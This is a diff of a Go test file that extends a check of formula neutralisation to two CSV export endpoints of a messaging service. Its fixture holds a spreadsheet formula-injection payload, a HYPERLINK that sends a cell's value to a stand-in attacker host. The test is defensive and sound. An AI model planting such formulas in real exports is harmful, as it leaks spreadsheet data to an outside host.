@@ -141,32 +141,38 @@ func TestRefusedChangesAudited(t *testing.T) {
 	}
 }
 
-// Attack 9: a client_ref that is a formula is exported as text.
+// Attack 9: a client_ref that is a formula is written as text in every
+// CSV: the sending-record export and the history download.
 func TestExportNeutralisesFormulas(t *testing.T) {
 	f := newFixture(t)
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	f.send("acme", evil, "sms", "01012345678", "delivered", testNow.Add(-time.Hour))
 	f.send("acme", "+1+2", "sms", "01012345678", "delivered", testNow.Add(-time.Hour))
-	var body string
-	if code := f.do("GET", "/api/v1/customers/acme/export?from=2026-11-01&to=2026-11-30", opToken, "", &body); code != 200 {
-		t.Fatalf("export: %d", code)
-	}
-	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
-	found := 0
-	for _, r := range rows[1:] {
-		for _, cell := range r {
-			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-" {
-				t.Errorf("cell %q starts a formula", cell)
+	for _, path := range []string{
+		"/api/v1/customers/acme/export?from=2026-11-01&to=2026-11-30",
+		"/api/v1/messages?customer=acme&from=2026-11-01&to=2026-11-30&format=csv",
+	} {
+		var body string
+		if code := f.do("GET", path, opToken, "", &body); code != 200 {
+			t.Fatalf("%s: %d", path, code)
+		}
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := 0
+		for _, r := range rows[1:] {
+			for _, cell := range r {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-" {
+					t.Errorf("%s: cell %q starts a formula", path, cell)
+				}
+			}
+			if r[2] == "'"+evil || r[2] == "'+1+2" {
+				found++
 			}
 		}
-		if r[2] == "'"+evil || r[2] == "'+1+2" {
-			found++
+		if found != 2 {
+			t.Fatalf("%s: the two client refs not written as text:\n%s", path, body)
 		}
-	}
-	if found != 2 {
-		t.Fatalf("the two client refs not exported as text:\n%s", body)
 	}
 }
